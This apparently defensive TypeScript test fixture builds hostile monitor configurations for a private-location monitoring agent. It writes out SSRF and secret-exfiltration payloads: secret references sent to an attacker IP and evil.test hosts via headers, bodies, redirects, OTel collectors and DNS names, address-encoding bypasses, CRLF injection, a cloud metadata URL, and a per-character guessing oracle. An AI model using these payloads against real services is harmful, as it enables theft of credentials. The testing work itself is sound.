import type { MessageInitShape } from "@bufbuild/protobuf";
import type { MonitorsResponseSchema } from "#contract/private_location/v1/private_location_pb";

/** Who is where in the network of the attack. Only the first is on the operator's lists. */
export const places = {
  /** The one target that the operator allows, with a port that may have the secrets and one that may not. */
  allowed: "10.66.0.1",
  allowedPort: 8001,
  otherPort: 8002,
  /** A machine of the same network that no monitor of the operator names. */
  inner: "10.66.0.2",
  attacker: "10.66.0.3",
  /** What the agent has as its service, and where that runs. */
  service: "10.66.0.10",
  realService: "10.66.0.11",
  page: "10.66.0.20",
  nameServer: "10.66.0.53",
} as const;

interface HostileHttp {
  readonly url: string;
  readonly header?: string;
  readonly body?: string;
  readonly collector?: string;
  readonly assertion?: string;
}

type Way = (reference: string) => HostileHttp;
const { allowed, allowedPort, otherPort, inner, attacker } = places;

/** What an attacker tries with HTTP monitors to get a secret, each with one reference. */
export const ways: readonly Way[] = [
  (header) => ({ url: `http://${attacker}/`, header }),
  (header) => ({ url: `https://${attacker}/`, header }),
  (header) => ({ url: `http://${allowed}:${otherPort}/`, header }),
  (body) => ({ url: `http://${allowed}:${otherPort}/`, body }),
  (path) => ({ url: `http://${allowed}:${otherPort}/${path}?q=${path}` }),
  (user) => ({ url: `http://${user}:${user}@${allowed}:${otherPort}/` }),
  // Names, and other ways to write an address, for a host that is not on the list as such.
  (header) => ({ url: `http://${allowed}:${allowedPort}@${attacker}:80/`, header }),
  (header) => ({ url: `http://evil.test:${allowedPort}/`, header }),
  (header) => ({ url: `http://0x0a420001:${otherPort}/`, header }),
  (header) => ({ url: `http://[::ffff:${allowed}]:${otherPort}/`, header }),
  // A redirect of a target that may have it, to one that may not.
  (header) => ({ url: `http://${allowed}:${allowedPort}/redirect`, header }),
  (body) => ({ url: `http://${allowed}:${allowedPort}/redirect`, body }),
  (path) => ({ url: `http://${allowed}:${allowedPort}/redirect?with=${path}` }),
  // The value as a name that is asked for, or as the whole target.
  (host) => ({ url: `http://${host}.evil.test/` }),
  (host) => ({ url: `http://${host}/` }),
  (url) => ({ url }),
  // A collector of metrics.
  (header) => ({
    url: `http://${allowed}:${otherPort}/`,
    collector: `http://${attacker}/`,
    header,
  }),
  (collector) => ({
    url: `http://${allowed}:${otherPort}/`,
    collector: `http://${allowed}:${otherPort}/${collector}`,
    header: collector,
  }),
  // References within references, and what is no reference.
  (reference) => ({
    url: `http://${allowed}:${otherPort}/`,
    header: reference.replace("{{", "{{secret:{{"),
  }),
  (header) => ({ url: `http://${allowed}:${otherPort}/`, header: `{{!x}}${header}\r\nX-More: 1` }),
];

/** An answer of the allowed target repeats what came. Does it hold this? One question is one character of the secret. */
export const guessing = (reference: string, guess: string): HostileHttp => ({
  url: `http://${allowed}:${allowedPort}/`,
  header: reference,
  assertion: guess,
});

/** Targets that the operator does not allow, by every kind and by what leads there. */
const forbiddenHttp: readonly string[] = [
  `http://${inner}/`,
  `https://${inner}:8443/`,
  "http://127.0.0.1/",
  "http://localhost:8787/",
  "http://[::1]/",
  "http://169.254.169.254/latest/meta-data/",
  "http://2130706433/",
  `http://[::ffff:${inner}]/`,
  "http://inner.test/",
  "http://turning.test/",
  `http://${allowed}:${allowedPort}/redirect-inner`,
];

type Assigned = MessageInitShape<typeof MonitorsResponseSchema>;
type AssignedHttp = NonNullable<Assigned["httpMonitors"]>[number];

export const referenceTo = (name: string): string => `{{secret:${name}}}`;

/** A monitor as a service in other hands assigns it: none of the rules of management holds. */
export const assignedHttp = (id: string, hostile: HostileHttp): AssignedHttp => ({
  id,
  name: id,
  url: hostile.url,
  periodicity: "10s",
  timeout: 2_000n,
  followRedirects: true,
  method: hostile.body === undefined ? "GET" : "POST",
  body: hostile.body ?? "",
  headers: hostile.header === undefined ? [] : [{ key: "X-Token", value: hostile.header }],
  bodyAssertions:
    hostile.assertion === undefined ? [] : [{ target: hostile.assertion, comparator: 1 }],
  ...(hostile.collector === undefined
    ? {}
    : {
        otelConfig: {
          endpoint: hostile.collector,
          headers: [{ key: "X-Token", value: hostile.header ?? "" }],
        },
      }),
});

/** Everything at once: each secret by two ways, and each kind of target that is forbidden. */
export function hostileAssignment(secretNames: readonly string[]): Assigned {
  const stealing = secretNames.flatMap((name, index) =>
    [0, 7].flatMap((turn) => {
      const way = ways[(index + turn) % ways.length];
      return way === undefined
        ? []
        : [assignedHttp(`steal-${name}-${turn}`, way(referenceTo(name)))];
    }),
  );
  const reference = referenceTo(secretNames[0] ?? "");
  const common = { periodicity: "10s", timeout: 2_000n };
  return {
    region: "office",
    revision: "hostile",
    httpMonitors: [
      ...stealing,
      ...forbiddenHttp.map((url, at) => assignedHttp(`forbidden-http-${at}`, { url })),
    ],
    tcpMonitors: [`${inner}:22`, "127.0.0.1:22", "[::1]:22", "inner.test:22", `${reference}:1`].map(
      (uri, at) => ({ ...common, id: `forbidden-tcp-${at}`, uri }),
    ),
    dnsMonitors: [
      `dns://${inner}/a.test`,
      `dns:${reference}.evil.test`,
      `dns:a.test?server=${attacker}`,
      `dns:a.test?server=127.0.0.1:53`,
    ].map((uri, at) => ({ ...common, id: `forbidden-dns-${at}`, uri })),
    icmpMonitors: [inner, "127.0.0.1", "::1", "inner.test"].map((uri, at) => ({
      ...common,
      id: `forbidden-icmp-${at}`,
      uri,
    })),
    grpcMonitors: [`${inner}:50051`, `${allowed}:${otherPort}`, `${attacker}:443`].map(
      (uri, at) => ({
        ...common,
        id: `forbidden-grpc-${at}`,
        uri,
        tlsMode: "plaintext",
        metadata: [{ key: "x-token", value: reference }],
      }),
    ),
  };
}
